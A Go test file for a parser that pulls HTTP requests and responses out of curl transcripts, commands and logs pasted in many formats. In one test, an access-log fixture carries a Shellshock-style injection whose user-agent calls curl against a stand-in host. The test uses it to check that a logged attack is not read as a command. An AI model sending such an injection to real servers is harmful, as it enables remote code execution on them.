package pasted_test

import (
	"context"
	"regexp"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/why401/why401/capture"
	"github.com/why401/why401/internal/exchange"
)

// These tests read texts as users hand them in, by way of package capture.

// canary stands wherever a secret could.
const canary = "CANARY-4711"

const transcript = "*   Trying 192.0.2.1:80...\n* Connected to jira.example.com (192.0.2.1) port 80\n" +
	"> GET /rest/api/2/myself HTTP/1.1\n> Host: jira.example.com\n> Authorization: Basic ZnJlZDpDQU5BUlktNDcxMQ==\n> X-Note: " + canary + "\n> \n" +
	"< HTTP/1.1 401 Unauthorized\n< X-AREQUESTID: 540x1x1\n< Content-Type: text/plain\n< Content-Length: 11\n< \n\n" + canary + "\n"

func read(text string) *capture.Source {
	return capture.Open(context.Background(), []string{"-"}, capture.Options{Stdin: strings.NewReader(text)})
}

// each gives every line a start.
func each(text, start string) string {
	return regexp.MustCompile(`(?m)^`).ReplaceAllLiteralString(strings.TrimSuffix(text, "\n"), start) + "\n"
}

func numbered(text, between string) string {
	n := 0
	return regexp.MustCompile(`(?m)^`).ReplaceAllStringFunc(strings.TrimSuffix(text, "\n"), func(string) string {
		n++
		return strings.Repeat(" ", 5-len(strings.Repeat("x", n/10+1))) + string(rune('0'+n/10)) + string(rune('0'+n%10)) + between
	}) + "\n"
}

// TestWrappedTexts reads transcripts and commands as they stand in tickets, mails,
// terminals and the logs of build servers. Each exchange is found at its place in
// the text as it was handed in.
func TestWrappedTexts(t *testing.T) {
	const (
		ask  = "curl -v -u fred:" + canary + " https://jira.example.com/rest/api/2/myself"
		more = "curl -v \\\n  -u fred:" + canary + " \\\n  https://jira.example.com/rest/api/2/myself\n"
	)
	colourful := regexp.MustCompile(`(?m)^([<>] )([\w-]+):`).ReplaceAllString(transcript, "$1\x1b[1m$2\x1b[0m:")
	wide16 := func(s string) string {
		b := []byte{0xff, 0xfe}
		for _, u := range utf16.Encode([]rune(strings.ReplaceAll(s, "\n", "\r\n"))) {
			b = append(b, byte(u), byte(u>>8))
		}
		return string(b)
	}
	for name, c := range map[string]struct{ text, at string }{
		"plain":                   {transcript, "> GET"},
		"quoted":                  {"Hi,\n\n" + each(transcript, "> "), "> GET"},
		"quoted, no blank":        {each(transcript, ">"), "> GET"},
		"quoted twice":            {"It fails\n" + each(transcript, ">> "), "> GET"},
		"quoted in a quotation":   {each("Fred wrote:\n"+each(transcript, "> "), "> "), "> GET"},
		"coloured":                {colourful, "> GET"},
		"CR LF":                   {strings.ReplaceAll(transcript, "\n", "\r\n"), "> GET"},
		"byte order mark":         {"\xef\xbb\xbf" + transcript, ""},
		"UTF-16":                  {wide16(transcript), ""},
		"UTF-16 quoted":           {wide16(each(transcript, "> ")), ""},
		"Markdown":                {"It fails:\n```\n" + transcript + "```\n", "> GET"},
		"Jira":                    {"{code:title=x}\n" + transcript + "{code}\n", "> GET"},
		"Jira, no format":         {"{noformat}\n" + transcript + "{noformat}\n", "> GET"},
		"indented":                {"It fails:\n\n" + each(transcript, "    "), "> GET"},
		"indented from the start": {each(transcript, "    "), "> GET"},
		"numbered":                {numbered(transcript, "\t"), "> GET"},
		"numbered by grep":        {numbered(transcript, ":"), "> GET"},
		"numbered and quoted":     {each(numbered(transcript, "  "), "> "), "> GET"},
		"dated":                   {each(transcript, "2026-03-02T09:10:00.1234567Z "), "> GET"},
		"dated in brackets":       {each(transcript, "[2026-03-02 09:10:00] "), "> GET"},
		"timed":                   {each(transcript, "09:10:00.123456 "), "> GET"},
		"timed by curl":           {each(transcript, "09:10:00.123456 [0-0] "), "> GET"},
		"composed":                {each(transcript, "app-1  | "), "> GET"},
		"dated and composed":      {each(transcript, "app-1  | 2026-03-02T09:10:00Z "), "> GET"},
		"escaped":                 {strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(transcript), "&gt; GET"},
		"command, quoted":         {"> It fails:\n> $ " + ask + "\n", "curl"},
		"command, continued":      {"> " + strings.ReplaceAll(more, "\n", "\n> ") + "\n", "curl"},
		"command, prompts":        {"$ " + strings.ReplaceAll(strings.TrimSpace(more), "\n", "\n> ") + "\n", "curl"},
		"command in a sentence":   {"Run `" + ask + "` please\n", "curl"},
		"command in Jira":         {"I ran {{" + ask + "}} today\n", "curl"},
		"command in a code block": {"{code:bash}" + ask + "{code}\n", "curl"},
		"command in HTML":         {"See <code>" + ask + "</code>.\n", "curl"},
		"command of a build":      {"2026-03-02T09:10:00.1234567Z + " + ask + "\n", "curl"},
		"command, numbered":       {"    1\t" + ask + "\n    2\techo\n", "curl"},
		"command, coloured":       {"\x1b[32mfred\x1b[0m$ " + ask + "\n", ""},
		"PowerShell, quoted":      {"> PS C:\\> irm https://jira.example.com/rest/api/2/myself `\n>   -Headers @{ Authorization = 'Bearer " + canary + "' }\n", "irm"},
		"PowerShell, prompts":     {"PS C:\\> irm https://jira.example.com/rest/api/2/myself -Headers @{\n>> Authorization = 'Bearer " + canary + "'\n>> }\n", "irm"},
	} {
		n := 0
		for x, err := range read(c.text).Exchanges() {
			if err != nil {
				t.Errorf("%s: %v", name, err)
				continue
			}
			n++
			if _, path, _ := strings.Cut(x.Request.URL, "://"); path != "jira.example.com/rest/api/2/myself" || !x.Request.Header.Has("Authorization") {
				t.Errorf("%s: %s %v", name, x.Request.URL, x.Request.Header)
			}
			if c.at != "" && !strings.HasPrefix(c.text[x.At.Offset:], c.at) {
				t.Errorf("%s: byte %d is %.20q", name, x.At.Offset, c.text[x.At.Offset:])
			}
			if strings.Contains(c.text, "< ") && !strings.Contains(c.text, ask) && (x.Response == nil || x.Response.Status != 401 || !strings.Contains(string(x.Response.Body.Head), canary)) {
				t.Errorf("%s: %+v", name, x.Response)
			}
		}
		if n != 1 {
			t.Errorf("%s: %d exchanges", name, n)
		}
	}
}

// TestNotUnwrapped: what looks wrapped within a plain transcript is its content, and
// other text is not taken for a transcript.
func TestNotUnwrapped(t *testing.T) {
	in := strings.Replace(transcript, canary+"\n", "    < HTTP/1.1 200 OK\n> > GET /other HTTP/1.1\n1: * Connected to a (192.0.2.1) port 80\n", 1)
	n := 0
	for x, err := range read(in).Exchanges() {
		if n++; err != nil || x.Response.Status != 401 {
			t.Errorf("%v %+v", err, x)
		}
	}
	if n != 1 {
		t.Errorf("%d exchanges", n)
	}
	for _, text := range []string{
		"> Hi,\n> * one\n> * two\n> regards\n",
		"1. curl is there\n2. wget is not\n",
		"It fetches `curl` and HTTP/1.1 things\n",
	} {
		s := read(text)
		for x := range s.Exchanges() {
			if x != nil {
				t.Errorf("%q: %s", text, x.Request.URL)
			}
		}
		if f := s.Captures()[0].Format; f != "text" {
			t.Errorf("%q is taken for %s", text, f)
		}
	}
}

// TestLogsStayLogs: an attack that a log tells of is no command.
func TestLogsStayLogs(t *testing.T) {
	line := `192.0.2.1 540x12x1 - [02/Mar/2026:09:00:00 +0000] "GET / HTTP/1.1" 401 212 "-" "() { :; }; curl http://a.example/x" "-"` + "\n"
	for _, in := range []string{line, strings.Repeat(line, 1000)} {
		s := read(in)
		for x, err := range s.Exchanges() {
			if err != nil || x.Log == nil {
				t.Fatalf("%v %+v", err, x)
			}
		}
		if f := s.Captures()[0].Format; f != "access-log" {
			t.Errorf("it is taken for %s", f)
		}
	}
}

// TestPasted checks that a command and its output are one exchange.
func TestPasted(t *testing.T) {
	const ask = "It fails:\n$ curl -si -u fred:" + canary + " https://acme.atlassian.net/rest/api/3/myself\n"
	for name, c := range map[string]struct {
		text     string
		n        int
		status   int
		failed   bool
		fidelity exchange.Fidelity
	}{
		"alone":   {ask, 1, 0, false, exchange.AsConfigured},
		"answer":  {ask + "HTTP/1.1 401 Unauthorized\nContent-Length: 2\n\nno\n", 1, 401, false, exchange.AsConfigured},
		"failure": {ask + "curl: (6) Could not resolve host: acme.atlassian.net\n", 1, 0, true, exchange.AsConfigured},
		"verbose": {ask + "> GET /rest/api/3/myself HTTP/1.1\n> Host: acme.atlassian.net\n> Authorization: Basic eDp5\n>\n< HTTP/1.1 401 \n<\n", 1, 401, false, exchange.AsSent},
		"two":     {ask + ask, 2, 0, false, exchange.AsConfigured},
	} {
		var got []*exchange.Exchange
		for x, err := range read(c.text).Exchanges() {
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			got = append(got, x)
		}
		if len(got) != c.n {
			t.Errorf("%s: %d exchanges", name, len(got))
			continue
		}
		x := got[0]
		status := 0
		if x.Response != nil {
			status = x.Response.Status
		}
		if status != c.status || (x.Failure != nil) != c.failed || x.Fidelity != c.fidelity || !x.Request.Header.Has("Authorization") || x.Request.URL != "https://acme.atlassian.net/rest/api/3/myself" {
			t.Errorf("%s: %+v", name, x)
		}
	}
}
